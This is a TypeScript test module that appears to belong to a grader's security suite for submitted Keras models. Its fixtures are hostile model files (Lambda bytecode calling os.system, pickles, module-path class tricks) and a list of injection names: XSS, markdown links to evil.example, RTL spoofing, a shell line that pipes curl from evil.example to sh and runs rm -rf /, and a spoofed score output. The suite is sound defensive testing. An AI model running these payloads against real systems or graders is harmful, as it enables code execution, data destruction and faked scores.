import { layerOf, sequential } from '../../model/build.ts';
import type { Attack } from '../world.ts';
import { archive, CONFIG, DENSE, kerasH5, members, ROW, WEIGHTS, web, writeBoth } from './build.ts';

/** What `marshal` makes of `lambda x: __import__('os').system('id')`, as Keras writes it. */
const BYTECODE = ['4wEAAAAAAAAAAAAAAAQAAABTAAAA8wAAAAA=', null, null];
const LAMBDA = layerOf('Lambda', { function: BYTECODE, function_type: 'lambda' });
/** Keras 3's spelling. */
const MODERN = { class_name: '__lambda__', config: { code: BYTECODE[0], defaults: null, closure: null } };
const ends = 'model/custom-code';

/** Code that a model would have us run. */
export async function code(): Promise<readonly Attack[]> {
  const cases: readonly (readonly [title: string, layer: object, ends: Attack['ends']])[] = [
    ['[T-16] a Lambda of Python bytecode', LAMBDA, ends],
    ['[T-16] a Lambda as Keras 3 writes it', layerOf('Lambda', { function: MODERN }), ends],
    ['[T-16] a Lambda inside a wrapper', layerOf('TimeDistributed', { layer: LAMBDA }), ends],
    ['[T-16] a Lambda in a model in a model', sequential(ROW, sequential(ROW, LAMBDA)), ends],
    ['[T-16] a Lambda for an activation', layerOf('Dense', { units: 2, activation: MODERN }), ends],
    [
      '[T-16] a Lambda for an initialiser, which nobody asks for weights',
      layerOf('Dense', { units: 2, kernel_initializer: MODERN }),
      'scored',
    ],
    [
      '[T-16] a class of a module of the candidate',
      layerOf('Dense', { units: 2 }, { module: 'os', registered_name: 'system' }),
      ends,
    ],
    ['[T-16] a registered class', layerOf('Dense', { units: 2 }, { registered_name: 'evil>Dense' }), ends],
    ['[T-16] a model in a file of the runner', layerOf('TFSMLayer', { filepath: '/etc' }), ends],
    ['[T-16] a pickle of PyTorch', layerOf('TorchModuleWrapper', { module: 'gASVDgAAAA==' }), ends],
  ];
  return [
    ...cases.map(
      ([title, layer, end]): Attack => ({ title, files: web(sequential(ROW, layer), WEIGHTS), ends: end }),
    ),
    {
      title: '[T-16] a Lambda in an archive',
      files: { 'model.keras': archive(await members(sequential(ROW, LAMBDA))) },
      ends,
    },
    {
      title: '[T-16] a Lambda in an HDF5 file',
      files: { 'model.h5': await kerasH5(writeBoth, sequential(ROW, LAMBDA)) },
      ends,
    },
    {
      title: '[T-16] scripts beside a model',
      files: {
        ...web(CONFIG, WEIGHTS),
        'setup.py': 'import os',
        'conftest.py': 'raise SystemExit',
        '.env': 'X=1',
      },
      ends: 'scored',
    },
    {
      title: '[T-16] a pickle for a model',
      files: { 'model.keras': Uint8Array.of(0x80, 4, 0x95, 0, 0, 0, 0, 0) },
      ends: 'submission/wrong-content',
    },
  ];
}

/** Names that would be something else wherever they are shown. */
export const NAMES: readonly (readonly [what: string, name: string])[] = [
  ['markdown', '**Passed** [5 of 5](https://evil.example) ![x](https://evil.example/x.png)'],
  ['HTML', '<img src=x onerror=alert(1)></details><h1>5 of 5</h1><!--'],
  ['a mention', '@everyone fixes #1, GH-1, octo/cat@main'],
  ['RTL marks', 'dense\u202E5 fo 5\u2066\u200B'],
  ['shell', '$(curl evil.example|sh) `id` ; rm -rf / # \n::set-output name=score::25'],
  ['a table', '| 5 | 5 |\n|---|---|\n'],
  ['control characters', '\u0000\u0007\u001b[2J\u001b]8;;https://evil.example\u0007'],
  ['a marker', '<!-- fivefold head=0000000000000000000000000000000000000000 at=2026 -->'],
  ['a name of a prototype', '__proto__'],
  ['a megabyte', 'a'.repeat(2 ** 20)],
];

/** Each name as that of a layer that the grader has to talk about. */
export async function names(): Promise<readonly Attack[]> {
  const unknown = NAMES.map(([what, name]): Attack => {
    const layer = { ...layerOf('Holographic', { name }), name };
    return {
      title: `[T-15] a layer named by ${what}`,
      files: web(sequential(ROW, layer), WEIGHTS),
      ends: 'model/layer-unsupported',
    };
  });
  const classes = NAMES.slice(0, 2).map(
    ([what, name]): Attack => ({
      title: `[T-15] a class named by ${what}`,
      files: web(sequential(ROW, layerOf(name)), WEIGHTS),
      ends: 'model/layer-unsupported',
    }),
  );
  const inside = await members();
  const versioned = (version: string) =>
    archive({ ...inside, 'metadata.json': Buffer.from(JSON.stringify({ keras_version: version })) });
  return [
    ...unknown,
    ...classes,
    {
      title: '[T-15] a version named by HTML',
      files: { 'model.keras': versioned('<b>@all</b>|`$(id)`') },
      ends: 'scored',
    },
    {
      title: '[T-15] a version named by RTL marks',
      files: { 'model.keras': versioned('\u202E3.5\u2066') },
      ends: 'scored',
    },
    {
      title: '[T-15] a healthy layer named by HTML',
      files: web(sequential(ROW, { ...DENSE, name: NAMES[1]?.[1] }), WEIGHTS),
      ends: 'model/weights-missing',
    },
  ];
}
